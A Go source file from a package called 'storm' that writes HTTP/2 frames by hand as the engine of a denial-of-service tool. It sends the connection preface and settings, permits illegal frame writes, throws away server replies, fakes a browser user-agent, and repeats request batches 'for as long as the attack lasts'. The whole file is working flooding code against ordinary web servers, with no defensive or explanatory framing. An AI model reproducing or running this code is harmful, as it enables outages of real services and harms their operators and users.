package storm

import (
	"bufio"
	"bytes"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is a connection of HTTP/2 of which every frame is written by hand.
// Frames are gathered and sent by flush.
type session struct {
	*line
	out  *bufio.Writer
	fr   *http2.Framer
	enc  *hpack.Encoder
	head bytes.Buffer
	next uint32 // stream
}

// open says the preface and settings, and takes all that the other side says
// without reading it, if it reads at all. Few streams have room for an answer where
// the window is small.
func (s *storm) open(c *line, reads bool, settings ...http2.Setting) *session {
	h := &session{line: c, out: bufio.NewWriterSize(c, 64<<10), next: 1}
	h.fr = http2.NewFramer(h.out, nil)
	h.fr.AllowIllegalWrites = true
	h.enc = hpack.NewEncoder(&h.head)
	_, _ = io.WriteString(h.out, http2.ClientPreface)
	_ = h.fr.WriteSettings(settings...)
	_ = h.fr.WriteSettingsAck()
	if reads {
		_ = h.fr.WriteWindowUpdate(0, 1<<30)
		c.discard()
	}
	return h
}

// stream is the number of the next stream.
func (h *session) stream() uint32 {
	n := h.next
	h.next += 2
	return n
}

// block enciphers fields: name, value, name, value.
func (h *session) block(fields ...string) []byte {
	h.head.Reset()
	for i := 0; i < len(fields); i += 2 {
		_ = h.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(h.head.Bytes())
}

// request is the block of a request, with more fields behind the usual ones.
func (h *session) request(method, path string, more ...string) []byte {
	return h.block(append([]string{":method", method, ":scheme", "https", ":authority", h.s.to.Host, ":path", path,
		"user-agent", "Mozilla/5.0", "accept", "text/html"}, more...)...)
}

// headers sends a whole head.
func (h *session) headers(stream uint32, end bool, block []byte) {
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: end, EndHeaders: true})
}

// flush sends what was gathered. That the attack's end stopped it is no error.
func (h *session) flush() error { return h.s.unlessOver(h.out.Flush()) }

// repeat sends batches of n units for as long as the attack lasts and the other
// side takes them.
func (h *session) repeat(n int, batch func()) error {
	for h.s.may(n) {
		batch()
		if err := h.flush(); err != nil {
			return err
		}
	}
	return nil
}
